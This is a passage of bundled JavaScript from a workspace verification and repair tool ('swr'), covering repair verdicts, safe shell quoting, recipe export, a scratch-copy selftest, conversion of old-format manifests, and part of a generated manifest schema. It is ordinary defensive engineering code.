            dry_run: opts.dryRun === true,
            before: {
                summary: before.summary,
                signature: before.diagnosis.signature,
                cause: before.diagnosis.cause
            },
            plan: plan.waves,
            ...(gate
                ? { gate: { allowed: gate.allowed, reason: gate.reason, warnings: gate.warnings } }
                : {}),
            steps,
            ...(harmed.length > 0 ? { collateral: harmed } : {}),
            // Sealed entries have seals of their own, kept on this machine: not saved by expectation key.
            write_back: writeBack(m, steps).filter(w => !sealedIds.has(w.id)),
            ...(sealing.length > 0 ? { sealing } : {}),
            outcome,
            exit_code: repairOutcome(outcome).exitCode
        };
        return { ...final, ...(states.length > 0 ? { sealed: states } : {}), repair };
    };
    if (before.verdict === 'healthy')
        return finish('healthy', [], before);
    if (opts.dryRun)
        return finish('damaged', [], before);
    const gate = await gate_decide(gate_gateInput(m), opts.policy);
    hooks.onGate?.(gate);
    if (!gate.allowed)
        return finish('refused', [], before, gate);
    if (opts.rememberAccepted)
        version_memory_remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
    const resumed = opts.resume ? resumeState(opts.stateDir, m.workspace, m.digest) : undefined;
    const already = resumed?.repaired ?? new Set();
    if (resumed)
        hooks.onResume?.(already.size, resumed.interrupted);
    const journal = openJournal(opts.stateDir, m.workspace, m.digest, new Date(), opts.resume === true);
    const reverify = { stateDir: opts.stateDir, jobs: opts.jobs, nativeWalk: opts.nativeWalk };
    const steps = await runPlan({
        manifest: m,
        plan,
        gate,
        callerEnv: opts.callerEnv,
        reverify: selection_reverifier(m, reverify),
        reverifyAt: scratchVerifier(m, reverify),
        jobs: opts.jobs ?? 1,
        timeoutS: opts.timeoutS,
        quarantine: opts.quarantine ? { stateDir: opts.stateDir, ...opts.quarantineLimits } : undefined,
        alreadyRepaired: already,
        journal,
        abort: opts.abort,
        cache: opts.cacheClient,
        onLine: hooks.onLine,
        onStep: hooks.onStep
    });
    const interrupted = steps.some(s => s.outcome === 'interrupted') || opts.abort?.aborted === true;
    if (!interrupted)
        journal.close();
    // Entries a cache archive healed were proven byte by byte as they were extracted, moments ago:
    // the final uncached check takes those findings instead of reading them a second time.
    const proven = new Map(steps.flatMap(s => s.outcome === 'repaired' && s.source === 'cache' && isProven(s.after)
        ? [[s.id, s.after]]
        : []));
    // The verdict comes from an uncached check of the whole selection, restore included: a recipe
    // may damage an entry it was not asked to touch, and only a full re-check sees that.
    const final = reportFor(interrupted
        ? finalFindings(first, steps, true)
        : finalFindings(await verify(false, proven), steps, false));
    const harmed = collateral(first.findings, final.results, steps);
    hooks.onFinal?.(final);
    const outcome = verdict(final, steps, interrupted, harmed);
    // Steps that failed on a filesystem with no room left say nothing about the entries.
    if (outcome === 'unrepairable' || outcome === 'still-damaged') {
        const full = steps.some(s => s.outcome !== 'repaired') ? diskFull(m.workspace) : undefined;
        if (full)
            throw full;
    }
    return finish(outcome, steps, final, gate, harmed);
}
/**
 * Entries that verified before the repair and do not after it: damage a recipe did on the side.
 * Each is named with the steps that ran before the re-check found it (the likely culprits).
 */
function collateral(before, final, steps) {
    const wasOk = new Set(before.filter(f => f.status === 'OK').map(f => f.id));
    const ran = steps.filter(s => s.outcome !== 'skipped' && s.source === 'recipe').map(s => s.id);
    return final
        .filter(f => wasOk.has(f.id) && f.status !== 'OK' && f.status !== 'SKIPPED')
        .map(f => ({ id: f.id, status: f.status, detail: f.detail, after: ran }));
}
/**
 * Entries a recipe healed and re-verified: their state is worth saving to the cache under the
 * key of their signed expectations, so the next run restores it without running code.
 */
function writeBack(m, steps) {
    const entries = new Map(m.body.entries.map(e => [e.id, e]));
    return steps.flatMap(s => {
        const e = entries.get(s.id);
        return s.outcome === 'repaired' && s.source === 'recipe' && e
            ? [{ id: s.id, key: stateKey(e) }]
            : [];
    });
}
/**
 * The findings of the final state, from `base` (the final check, or the first check when an
 * interruption left no time for one): entries whose step was skipped because a dependency failed
 * are SKIPPED rather than their damage; with `stepFindings`, each step's own re-verification
 * stands for its entry.
 */
function finalFindings(base, steps, stepFindings) {
    const after = new Map(stepFindings ? steps.flatMap(s => (s.after ? [[s.id, s.after]] : [])) : []);
    const skipped = new Map(steps.filter(s => s.outcome === 'skipped').map(s => [s.id, s.detail]));
    const findings = base.findings.map(f => {
        const a = after.get(f.id);
        if (a)
            return a;
        const why = skipped.get(f.id);
        return why && f.status !== 'OK'
            ? { ...f, status: 'SKIPPED', reason: 'dependency', detail: why }
            : f;
    });
    return { ...base, findings, ms: Date.now() - base.started.getTime() };
}
function verdict(final, steps, interrupted, harmed) {
    if (interrupted)
        return 'interrupted';
    if (final.verdict === 'healthy')
        return 'repaired';
    if (harmed.length > 0 || steps.some(s => s.outcome === 'still-damaged'))
        return 'still-damaged';
    return 'unrepairable';
}

;// CONCATENATED MODULE: ./src/core/text/shell-quote.ts
/**
 * The one way swr writes a string into shell text it generates (exported recipe scripts, the
 * command lines it suggests). The result is a single word on a single line whatever the string
 * holds: a newline in a signed path or a hostile file name can never end a comment or start a
 * command.
 */

const PLAIN = /^[A-Za-z0-9_/.,:@%+=-]+$/;
function hasControl(s) {
    for (let i = 0; i < s.length; i++)
        if (isControl(s.charCodeAt(i)))
            return true;
    return false;
}
const shell_quote_NAMED = { '\n': '\\n', '\r': '\\r', '\t': '\\t' };
/**
 * `word` as one shell word: as it is when plainly safe, else single-quoted; a word holding a
 * control or bidi character is ANSI-C quoted (`$'a\nb'`, bash, zsh and POSIX.1-2024 shells), so it
 * still reads back as exactly `word` and never spans two lines.
 */
function shell_quote_shellQuote(word) {
    if (PLAIN.test(word))
        return word;
    if (!hasControl(word))
        return `'${word.replace(/'/g, `'\\''`)}'`;
    let out = '';
    for (const ch of word) {
        const c = ch.codePointAt(0) ?? 0;
        if (ch === '\\' || ch === "'")
            out += `\\${ch}`;
        else if (shell_quote_NAMED[ch])
            out += shell_quote_NAMED[ch];
        // UTF-8 bytes, not \u escapes: bash decodes \u by the locale, and a C1 control is two bytes.
        else if (isControl(c))
            for (const b of Buffer.from(ch))
                out += `\\x${b.toString(16).padStart(2, '0')}`;
        else
            out += ch;
    }
    return `$'${out}'`;
}

;// CONCATENATED MODULE: ./src/core/engine/export-recipes.ts
/**
 * `export-recipes` as a use case: every restore recipe of the selection as one bash script, in the
 * order a repair would run them (tiers, then dependencies), for running by hand or in another
 * tool. Exporting code is running code by another name, so the gate decides first and a refused
 * manifest yields no script at all. Returns the steps and the finished script.
 */






async function exportRecipes(m, opts) {
    const gate = await decide(gateInput(m), opts.policy);
    if (!gate.allowed)
        throw new SwrError(`export-recipes: refusing to export recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
    const entries = selectEntries(m.body.entries, opts.only).filter(e => recipesOf(e).length > 0);
    const steps = orderedSteps(entries);
    const lines = [
        '#!/usr/bin/env bash',
        // Every manifest string outside the signed recipes goes through shellQuote: one word, one line.
        `# swr recipes for ${shellQuote(m.file)}`,
        `# manifest digest ${m.digest}, version ${m.body.version}`,
        'set -euo pipefail',
        `cd ${shellQuote(m.workspace)}`
    ];
    for (const s of steps)
        lines.push('', `# tier ${s.tier}: ${shellQuote(s.id)} (${shellQuote(s.path)})${s.after.length ? ` after ${s.after.map(shellQuote).join(', ')}` : ''}`, s.recipes.map(r => `( ${r}\n)`).join(' ||\n'));
    return {
        kind: 'export-recipes',
        gate,
        manifest: m.file,
        digest: m.digest,
        version: m.body.version,
        steps,
        script: lines.join('\n') + '\n'
    };
}
/** The entries as a repair plan orders them, each with the ids it comes after. */
function orderedSteps(entries) {
    const byId = new Map(entries.map(e => [e.id, e]));
    return restoreOrder(entries).flatMap(step => {
        const e = byId.get(step.id);
        return e
            ? [
                {
                    id: e.id,
                    kind: e.kind,
                    path: e.path,
                    tier: e.tier,
                    after: step.after,
                    recipes: recipesOf(e)
                }
            ]
            : [];
    });
}

;// CONCATENATED MODULE: ./src/core/engine/selftest.ts
/**
 * `selftest` as a use case: prove recipes are idempotent, since doctor may run them many times.
 * Recipes are manifest code, so the gate decides first. Each selected recipe then runs twice in a
 * scratch copy of the workspace (never the live one), with HOME pointed into the scratch too, and
 * after each run its entry must verify; with `fromScratch` the entry is removed first, so the
 * recipe must also recreate it from nothing. Returns each entry's verdict with a line per run,
 * the symlinks left out of the scratch copy, and whether every recipe passed; the scratch copy is
 * gone when it returns.
 *
 * The scratch copy carries no symlink that could lead outside it (an absolute target, or one that
 * climbs out), so neither swr nor a recipe writing through one reaches a file outside it. Removing
 * an entry resolves its path without following a symlink in any component; an entry behind one
 * fails without running.
 */













async function selftest(live, opts) {
    const selected = selectEntries(live.body.entries, opts.only).filter(e => recipesOf(e).length > 0 && e.tier <= (opts.maxTier ?? 4));
    if (selected.length === 0 && !opts.allowEmpty)
        throw new SwrError('selftest: no entry with a restore recipe matches the selection (pass --allow-empty to accept that)', EXIT.UNREPAIRABLE);
    const gate = await decide(gateInput(live), opts.policy);
    if (!gate.allowed)
        throw new SwrError(`selftest: refusing to run recipes: ${gate.reason}`, EXIT.UNREPAIRABLE);
    const scratch = makeOwnedTemp(opts.tmpDir, 'swr-selftest');
    try {
        const ws = path.join(scratch, 'workspace');
        const home = path.join(scratch, 'home');
        const leftOut = copyWithoutOutsideLinks(live.workspace, ws);
        fs.mkdirSync(home);
        const m = { ...live, workspace: fs.realpathSync(ws) };
        const results = [];
        const round = roundRunner(m, home, gate, opts);
        for (const e of planOrder(selected)) {
            if (opts.fromScratch) {
                try {
                    fs.rmSync(resolveNoFollow(m.workspace, e.path), { recursive: true, force: true });
                }
                catch (err) {
                    if (!(err instanceof SymlinkRefusal))
                        throw err;
                    results.push({ id: e.id, passed: false, runs: [`not run: ${err.message}`] });
                    continue;
                }
            }
            const runs = [await round(e, 1), await round(e, 2)];
            results.push({ id: e.id, passed: runs.every(r => r.ok), runs: runs.map(r => r.line) });
        }
        return { kind: 'selftest', gate, leftOut, results, passed: results.every(r => r.passed) };
    }
    finally {
        fs.rmSync(scratch, { recursive: true, force: true });
    }
}
/** The selected entries in the order a repair would restore them (tiers, then dependencies). */
function planOrder(selected) {
    const byId = new Map(selected.map(e => [e.id, e]));
    return restoreOrder(selected).flatMap(s => byId.get(s.id) ?? []);
}
/** One run of an entry's first recipe in the scratch copy, and the entry verified after it. */
function roundRunner(m, home, gate, opts) {
    const verify = reverifier(m, { stateDir: opts.stateDir, nativeWalk: opts.nativeWalk });
    return async (e, round) => {
        const timeoutMs = (opts.timeoutS ?? e.timeout_s ?? RECIPE_TIMEOUT_S) * 1000;
        const r = await runSignedCommand({
            entry: e,
            command: recipesOf(e)[0] ?? 'false',
            shell: m.body.shell,
            cwd: m.workspace,
            timeoutMs,
            setEnv: { HOME: home }
        }, { gate, callerEnv: opts.callerEnv, secretScan: await loadSecretScan(), abort: opts.abort });
        const [after] = await verify([e]);
        const ok = r.exitCode === 0 && after?.status === 'OK';
        return {
            ok,
            line: `run ${round}: ${describeResult(r, timeoutMs)}, entry ${after?.status ?? '?'}${ok ? '' : `: ${escapeText(after?.detail ?? '')}`}`
        };
    };
}
/** Copy the workspace, leaving out symlinks that may lead outside it (returned). */
function copyWithoutOutsideLinks(from, to) {
    const root = fs.realpathSync(from);
    const leftOut = [];
    fs.cpSync(root, to, {
        recursive: true,
        verbatimSymlinks: true,
        filter: src => {
            const st = fs.lstatSync(src);
            if (!st.isSymbolicLink() || linkStaysInside(root, src, fs.readlinkSync(src)))
                return true;
            leftOut.push(relativeInside(root, src) ?? src);
            return false;
        }
    });
    return leftOut;
}

;// CONCATENATED MODULE: ./src/core/manifest/import-v2.ts
/**
 * Reading the original tool's format-2 manifests. `swr check` accepts one directly and `swr import`
 * writes the converted body as format 3 (unsigned until signed). Escrowed bytes (a restore of
 * `swr-escrow:` + base64 of zlib data) become format-3 escrow once they inflate, within bounds, to
 * the recorded size and sha256; smoke timeouts become smoke_timeout_s. Whatever cannot be carried
 * (ldd lists, the old "merkle", upstream URLs, a blob recorded by size alone, unknown fields,
 * escrow that does not match) is left out and named in a note, one per thing.
 */







const isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
/** True for a format-2 document: top-level `version: 2` with `entries` and no `body`. */
function isV2Document(value) {
    return isObj(value) && value.version === 2 && Array.isArray(value.entries) && !('body' in value);
}
/** Convert a format-2 document; throws ManifestError listing every entry that cannot be read. */
function convertV2(v2, file, home = external_node_os_default().homedir()) {
    const problems = [];
    const notes = [];
    const workspace = typeof v2.workspace === 'string' ? v2.workspace : home;
    if (!external_node_path_default().isAbsolute(workspace))
        problems.push(`${file}: workspace must be absolute in format 2`);
    if (typeof v2.created === 'number' &&
        !(Number.isSafeInteger(v2.created) && Math.abs(v2.created) <= 8.64e12)) {
        problems.push(`${file}: created ${v2.created} is not a unix time in seconds`);
    }
    const created = typeof v2.created === 'number' &&
        Number.isSafeInteger(v2.created) &&
        Math.abs(v2.created) <= 8.64e12
        ? new Date(v2.created * 1000).toISOString().replace(/\.\d+Z$/, 'Z')
        : new Date(0).toISOString().replace(/\.\d+Z$/, 'Z');
    for (const k of Object.keys(v2))
        if (!TOP_KEYS.has(k))
            notes.push(`field ${quoted(k)} of the document not carried over`);
    const entries = [];
    const gone = new Set();
    v2.entries.forEach((raw, i) => {
        const where = `${file}: entry #${i + 1}`;
        if (!isObj(raw))
            return void problems.push(`${where} is not an object`);
        const converted = convertEntry(raw, workspace, where, notes);
        if (typeof converted === 'string')
            problems.push(converted);
        else if ('leftOut' in converted)
            gone.add(converted.leftOut);
        else
            entries.push(converted);
    });
    if (problems.length > 0)
        throw new errors_ManifestError(problems[0] ?? file, problems);
    dropNeedsOfLeftOut(entries, gone, notes);
    if (v2._sig !== undefined || v2._pksig !== undefined) {
        notes.push('format-2 signatures are not carried over (import checks them with --legacy-key and --legacy-pubkey): sign the converted manifest');
    }
    return {
        doc: { body: { schema: 3, version: 1, workspace, created, entries }, signatures: [] },
        notes
    };
}
const TOP_KEYS = new Set(['version', 'workspace', 'created', 'entries', '_sig', '_pksig']);
const ENTRY_KEYS = new Set([
    'id',
    'path',
    'kind',
    'tier',
    'needs',
    'restore',
    'timeout_s',
    'smoke',
    'smoke_timeout',
    'smoke_timeout_s',
    'fragile',
    'sha256',
    'mode',
    'bytes',
    'headtail',
    'sentinels',
    'ignore_dirs',
    'min_files',
    // Known, and reported where they are read: not carried.
    'ldd',
    'upstream',
    'merkle'
]);
/** Dependents of an entry left out lose that edge (and say so) rather than naming nothing. */
function dropNeedsOfLeftOut(entries, gone, notes) {
    for (const e of entries) {
        const lost = e.needs.filter(n => gone.has(n));
        if (lost.length === 0)
            continue;
        e.needs = e.needs.filter(n => !gone.has(n));
        notes.push(`${e.id}: needs ${lost.join(', ')} dropped (not carried over)`);
    }
}
const ESCROW_PREFIX = 'swr-escrow:';
/** Largest escrow carried over: the format-3 escrow limit. */
const ESCROW_MAX = 256 * 1024;
/**
 * Format-2 escrow as format-3 escrow: base64 of zlib data that inflates (bounded) to exactly the
 * recorded size and sha256. Anything else is a note, never trusted bytes.
 */
function carryEscrow(recipe, id, expect, notes) {
    const payload = recipe.slice(ESCROW_PREFIX.length).trim();
    const fail = (why) => void notes.push(`${id}: escrow not carried over: ${why}`);
    if (expect.size > ESCROW_MAX)
        return fail(`${expect.size} bytes is over the ${ESCROW_MAX}-byte limit`);
    if (!/^[A-Za-z0-9+/=\s]+$/.test(payload))
        return fail('not base64');
    let bytes;
    try {
        bytes = (0,external_node_zlib_.inflateSync)(Buffer.from(payload, 'base64'), { maxOutputLength: expect.size + 1 });
    }
    catch {
        return fail(`not zlib data, or inflates to more than the recorded ${expect.size} bytes`);
    }
    if (bytes.length !== expect.size)
        return fail(`inflates to ${bytes.length} bytes, the entry records ${expect.size}`);
    if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== expect.sha256)
        return fail("its bytes do not match the entry's sha256");
    return {
        encoding: 'deflate-base64',
        data: (0,external_node_zlib_.deflateRawSync)(bytes, { level: 9 }).toString('base64')
    };
}
function str(v) {
    return typeof v === 'string' ? v : undefined;
}
function import_v2_int(v) {
    return typeof v === 'number' && Number.isSafeInteger(v) && v >= 0 ? v : undefined;
}
function convertEntry(raw, workspace, where, notes) {
    const id = str(raw.id);
    if (id === undefined || !ENTRY_ID.test(id)) {
        return `${where}: id ${typeof raw.id === 'string' ? quoted(raw.id) : JSON.stringify(raw.id ?? null).slice(0, QUOTE_MAX)} must match ${ENTRY_ID.source}`;
    }
    const named = `${where} ("${id}")`;
    const rawPath = str(raw.path);
    if (rawPath === undefined || rawPath === '')
        return `${named}: path is required`;
    const rel = external_node_path_default().isAbsolute(rawPath)
        ? external_node_path_default().relative(workspace, rawPath)
        : external_node_path_default().posix.normalize(rawPath);
    const spelled = rel === '' ? '.' : rel.split((external_node_path_default()).sep).join('/').replace(/\/+$/, '');
    const problem = paths_pathProblem(spelled);
    if (problem)
        return `${named}: path ${escape_escapeText(rawPath, { max: QUOTE_MAX })} ${problem}`;
    const tierRaw = import_v2_int(raw.tier) ?? 2;
    if (tierRaw > 4)
        return `${named}: tier ${tierRaw} is not 0..4`;
    const needs = Array.isArray(raw.needs)
        ? raw.needs.filter((n) => typeof n === 'string')
        : [];
    for (const k of Object.keys(raw))
        if (!ENTRY_KEYS.has(k))
            notes.push(`${id}: field ${quoted(k)} not carried over`);
    const smokeTimeout = import_v2_int(raw.smoke_timeout_s) ?? import_v2_int(raw.smoke_timeout);
    const common = {
        id,
        path: spelled,
        tier: tierRaw,
        needs: [...new Set(needs)],
        ...(str(raw.restore) && !str(raw.restore)?.startsWith('swr-escrow:')
            ? { restore: str(raw.restore) }
            : {}),
        ...(import_v2_int(raw.timeout_s)
            ? { timeout_s: Math.min(86400, Math.max(1, import_v2_int(raw.timeout_s))) }
            : {}),
        ...(str(raw.smoke) ? { smoke: str(raw.smoke) } : {}),
        ...(smokeTimeout !== undefined && str(raw.smoke)
            ? { smoke_timeout_s: Math.min(86400, Math.max(1, smokeTimeout)) }
            : {}),
        ...(str(raw.fragile) ? { note: str(raw.fragile) } : {})
    };
    const escrowed = str(raw.restore)?.startsWith(ESCROW_PREFIX) ? str(raw.restore) : undefined;
    if (escrowed !== undefined && (str(raw.kind) ?? 'file') !== 'file')
        notes.push(`${id}: escrow not carried over: only files are escrowed`);
    if (raw.merkle !== undefined)
        notes.push(`${id}: merkle dropped (capture the tree again for its format-3 digests)`);
    if (raw.ldd !== undefined)
        notes.push(`${id}: ldd check dropped (swr never runs ldd during a check)`);
    const kind = str(raw.kind) ?? 'file';
    const sha = str(raw.sha256);
    const mode = str(raw.mode);
    const bytes = import_v2_int(raw.bytes);
    switch (kind) {
        case 'file': {
            if (!sha || !/^[0-9a-f]{64}$/.test(sha))
                return `${named}: sha256 missing or malformed`;
            if (bytes === undefined)
                return `${named}: bytes missing`;
            if (!mode || !/^0?[0-7]{3,4}$/.test(mode))
                return `${named}: mode missing or malformed`;
            const expect = { size: bytes, sha256: sha, mode: mode.padStart(4, '0') };
            const escrow = escrowed ? carryEscrow(escrowed, id, expect, notes) : undefined;
            return { ...common, kind: 'file', expect, ...(escrow ? { escrow } : {}) };
        }
        case 'blob': {
            const headtail = str(raw.headtail);
            if (bytes === undefined)
                return `${named}: bytes missing`;
            if (headtail === undefined) {
                // Size alone is no format-3 blob: leave the entry out, and say how to track it again.
                notes.push(`${id}: blob recorded by size alone (${bytes} bytes) not carried over; track it again with "swr add ${spelled} --kind blob"`);
                return { leftOut: id };
            }
            if (!/^[0-9a-f]{64}$/.test(headtail))
                return `${named}: headtail malformed`;
            if (str(raw.upstream))
                notes.push(`${id}: upstream ${escape_escapeText(str(raw.upstream) ?? '', { max: QUOTE_MAX })} kept only in the format-2 file`);
            const full = sha && /^[0-9a-f]{64}$/.test(sha) ? { sha256: sha } : {};
            return { ...common, kind: 'blob', expect: { size: bytes, headtail, ...full } };
        }
        case 'tree': {
            const sentinels = Array.isArray(raw.sentinels)
                ? raw.sentinels.filter((s) => typeof s === 'string')
                : [];
            const ignore = Array.isArray(raw.ignore_dirs)
                ? [
                    ...new Set(raw.ignore_dirs.filter((s) => typeof s === 'string' && s.length > 0))
                ]
                : [];
            notes.push(`${id}: tree has no content digest yet; capture it again with "swr add ${spelled} --kind tree"`);
            return {
                ...common,
                kind: 'tree',
                ignore,
                expect: { sentinels, min_files: import_v2_int(raw.min_files) ?? 1 }
            };
        }
        default:
            return `${named}: kind ${quoted(kind)} is not file, blob or tree`;
    }
}

;// CONCATENATED MODULE: ./src/core/manifest/read-fingerprint.ts
/**
 * What this process last read of each manifest file, so a save never replaces bytes it did not
 * read: if the file changed between the command's read and its write (a writer that ignored the
 * lock, or a lock lost mid-run), the save is refused with EXIT.CONFLICT and nothing is written.
 */




const lastSeen = new Map();
const sha = (bytes) => (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
/** Record the bytes just read from (or written to) `file`. */
function read_fingerprint_noteManifestBytes(file, bytes) {
    lastSeen.set(external_node_path_default().resolve(file), sha(bytes));
}
/** Throw unless `file` holds what this process last read or wrote there (when it read it at all). */
function read_fingerprint_assertUnchangedSinceRead(file) {
    const abs = path.resolve(file);
    const seen = lastSeen.get(abs);
    if (seen === undefined)
        return;
    let now;
    try {
        now = sha(fs.readFileSync(abs));
    }
    catch {
        now = 'absent';
    }
    if (now !== seen)
        throw new SwrError(`${file} changed after this command read it (another writer); nothing was written: run the command again`, EXIT.CONFLICT);
}

;// CONCATENATED MODULE: ./src/core/manifest/generated/manifest-validator.js
// Generated by scripts/gen-validators.mjs from schema/manifest-v3.schema.json. Do not edit.
/* eslint-disable */
// @ts-nocheck

const manifest_validator_func1 = ucs2length["default"] ?? ucs2length
;
const manifest_validator_func0 = equal["default"] ?? equal
const manifest_validator_validate = manifest_validator_validate20;/* harmony default export */ const manifest_validator = ((/* unused pure expression or super */ null && (manifest_validator_validate20)));const manifest_validator_schema31 = {"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"urn:snapshot-wipe-resilience:schema:manifest-v3.schema.json","title":"swr manifest, format 3","description":"What a workspace must contain, how each entry is verified, and how it is restored. `body` is what signatures cover; `signatures` sit beside it.","type":"object","additionalProperties":false,"required":["body","signatures"],"properties":{"$schema":{"type":"string","maxLength":1024},"body":{"$ref":"#/$defs/body"},"signatures":{"description":"Signatures over the body's DSSE pre-authentication encoding (payload type application/vnd.swr.manifest.v3+json, RFC 8785 body). Never inside the bytes they sign.","type":"array","maxItems":16,"items":{"type":"object","required":["alg"],"discriminator":{"propertyName":"alg"},"oneOf":[{"$ref":"#/$defs/hmacSignature"},{"$ref":"#/$defs/mldsaSignature"}],"properties":{"alg":{"enum":["hmac-sha256","ml-dsa-87"]}}}}},"$defs":{"sha256":{"type":"string","pattern":"^[0-9a-f]{64}$"},"mode":{"description":"Permission bits in octal, four digits, e.g. \"0755\".","type":"string","pattern":"^[0-7]{4}$"},"size":{"type":"integer","minimum":0,"maximum":9007199254740991},"id":{"type":"string","pattern":"^[A-Za-z0-9._-]{1,128}$"},"relpath":{"type":"string","minLength":1,"maxLength":4096},"body":{"type":"object","additionalProperties":false,"required":["schema","version","workspace","created","entries"],"properties":{"schema":{"const":3},"version":{"description":"Raised on every re-sign; a run may refuse versions below a floor.","type":"integer","minimum":1,"maximum":9007199254740991},"workspace":{"description":"The described directory: relative to the manifest file's directory, or absolute.","type":"string","minLength":1,"maxLength":4096},"created":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"expires":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"scope":{"description":"Where this manifest may run: compared with the run (in CI: GITHUB_REPOSITORY, GITHUB_REF) before any recipe runs.","type":"object","additionalProperties":false,"minProperties":1,"properties":{"repository":{"type":"string","pattern":"^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"},"ref":{"description":"Glob over the full ref, e.g. refs/heads/main or refs/heads/release/**.","type":"string","minLength":1,"maxLength":256},"manifest_path":{"description":"The manifest's path relative to the workspace, e.g. .swr/manifest.json.","type":"string","minLength":1,"maxLength":4096}}},"shell":{"description":"The shell that runs recipes and smoke commands, as argv before the command (default [\"bash\", \"-c\"]).","type":"array","minItems":1,"maxItems":8,"items":{"type":"string","minLength":1,"maxLength":256}},"entries":{"type":"array","maxItems":10000,"items":{"$ref":"#/$defs/entry"}},"sealed":{"description":"Entries whose expected state is sealed, not committed: recorded where the path is built (by swr doctor after the recipe and smoke command pass, or swr add --sealed), kept in the state directory under the key the template expands to, and checked against that seal. For what the lockfile and the platform decide (node_modules, virtualenvs).","type":"array","maxItems":256,"items":{"$ref":"#/$defs/sealedEntry"}}}},"common":{"type":"object","required":["id","kind","path","tier","needs","expect"],"properties":{"id":{"$ref":"#/$defs/id"},"kind":{"enum":["file","blob","tree","link"]},"path":{"$ref":"#/$defs/relpath"},"tier":{"description":"Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs.","type":"integer","minimum":0,"maximum":4},"needs":{"type":"array","maxItems":256,"uniqueItems":true,"items":{"$ref":"#/$defs/id"}},"restore":{"description":"How to recreate the entry: a shell recipe, or restore sources tried in order (recipes, and Actions caches) until the entry verifies.","oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"type":"array","minItems":1,"maxItems":8,"items":{"oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"$ref":"#/$defs/cacheSource"}]}}]},"timeout_s":{"type":"integer","minimum":1,"maximum":86400},"env":{"description":"Names of variables passed from the caller's environment to the recipe (besides PATH, HOME, LANG, TMPDIR).","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"secret_env":{"description":"Like env, and their values are scrubbed from recipe output and reports.","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"smoke":{"type":"string","minLength":1,"maxLength":65536},"smoke_timeout_s":{"description":"Seconds the smoke command may run (default 60).","type":"integer","minimum":1,"maximum":86400},"note":{"type":"string","maxLength":4096},"expect":{"type":"object"}}},"entry":{"type":"object","required":["kind"],"properties":{"kind":{"enum":["file","blob","tree","link"]}},"allOf":[{"if":{"properties":{"kind":{"const":"file"}}},"then":{"$ref":"#/$defs/fileEntry"}},{"if":{"properties":{"kind":{"const":"blob"}}},"then":{"$ref":"#/$defs/blobEntry"}},{"if":{"properties":{"kind":{"const":"tree"}}},"then":{"$ref":"#/$defs/treeEntry"}},{"if":{"properties":{"kind":{"const":"link"}}},"then":{"$ref":"#/$defs/linkEntry"}}]},"fileEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"file"},"expect":{"type":"object","additionalProperties":false,"required":["size","sha256","mode"],"properties":{"size":{"$ref":"#/$defs/size"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}},"escrow":{"description":"The file's bytes, deflated and base64-encoded, checked against expect.sha256 when captured and restored.","type":"object","additionalProperties":false,"required":["encoding","data"],"properties":{"encoding":{"const":"deflate-base64"},"data":{"type":"string","maxLength":1048576,"pattern":"^[A-Za-z0-9+/]*={0,2}$"}}}}},"blobEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"blob"},"expect":{"type":"object","additionalProperties":false,"required":["size","headtail"],"properties":{"size":{"$ref":"#/$defs/size"},"headtail":{"$ref":"#/$defs/sha256"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}}}},"treeEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"required":["ignore"],"properties":{"kind":{"const":"tree"},"ignore":{"description":"Directory or file names, or globs relative to the tree, left out of the walk.","type":"array","maxItems":256,"uniqueItems":true,"items":{"type":"string","minLength":1,"maxLength":1024}},"expect":{"type":"object","additionalProperties":false,"required":["sentinels","min_files"],"properties":{"sentinels":{"type":"array","maxItems":1024,"uniqueItems":true,"items":{"$ref":"#/$defs/relpath"}},"min_files":{"$ref":"#/$defs/size"},"max_files":{"$ref":"#/$defs/size"},"files":{"$ref":"#/$defs/size"},"meta_digest":{"$ref":"#/$defs/sha256"},"content_digest":{"$ref":"#/$defs/sha256"},"special_digest":{"description":"Digest of the path and kind of every special file in walk order (\"char 1:3\", \"block 8:0\", \"fifo\", \"socket\"), so a device swapped for another of the same mode is damage. Present only when the tree holds a special file; a tree recorded without it is checked as before.","$ref":"#/$defs/sha256"},"index":{"type":"object","additionalProperties":false,"required":["sha256","entries"],"properties":{"sha256":{"$ref":"#/$defs/sha256"},"entries":{"$ref":"#/$defs/size"}}}},"description":"A tree imported from format 2 may lack max_files, files and digests until it is captured again; it is then checked by sentinels and min_files only."}}},"linkEntry":{"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"link"},"expect":{"type":"object","additionalProperties":false,"required":["target"],"properties":{"target":{"type":"string","minLength":1,"maxLength":4096}}}}},"hmacSignature":{"type":"object","additionalProperties":false,"required":["alg","keyid","sig"],"properties":{"alg":{"const":"hmac-sha256"},"keyid":{"type":"string","pattern":"^[0-9a-f]{16}$"},"sig":{"type":"string","pattern":"^[0-9a-f]{64}$"}}},"mldsaSignature":{"type":"object","additionalProperties":false,"required":["alg","keyid","public_key","sig"],"properties":{"alg":{"const":"ml-dsa-87"},"keyid":{"description":"Fingerprint hint for people; never trusted (the fingerprint is recomputed from 